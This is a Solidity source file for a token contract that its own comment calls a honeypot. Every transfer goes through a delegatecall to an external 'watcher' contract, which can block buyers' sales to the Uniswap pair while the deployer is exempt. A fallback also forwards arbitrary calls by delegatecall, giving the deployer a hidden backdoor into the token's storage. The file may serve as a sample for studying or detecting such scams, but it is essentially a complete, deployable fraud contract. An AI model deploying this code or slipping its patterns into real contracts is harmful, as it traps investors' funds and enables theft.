// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {PairedToken} from "../lib/PairedToken.sol";

/// A honeypot with a watcher: a sale passes only where the watcher believes that nobody really sells.
contract WatchedToken is PairedToken {
    address private immutable _keeper;
    address private immutable _watcher;

    constructor(string memory name_, string memory symbol_, uint256 supply, address router, address watcher)
        PairedToken(name_, symbol_, supply, router)
    {
        _keeper = msg.sender;
        _watcher = watcher;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        bool isSale = to == uniswapV2Pair && from != _keeper;
        bytes memory question = abi.encodeWithSignature("watch(address,bool,uint256)", from, isSale, gasleft());
        (bool passed, bytes memory said) = _watcher.delegatecall(question);
        require(passed && abi.decode(said, (bool)), "Not today");
        _move(from, to, value);
    }

    /// What a watcher asks of the token itself, the watcher answers.
    fallback() external {
        (bool passed, bytes memory said) = _watcher.delegatecall(msg.data);
        assembly {
            if iszero(passed) { revert(add(said, 32), mload(said)) }
            return(add(said, 32), mload(said))
        }
    }
}
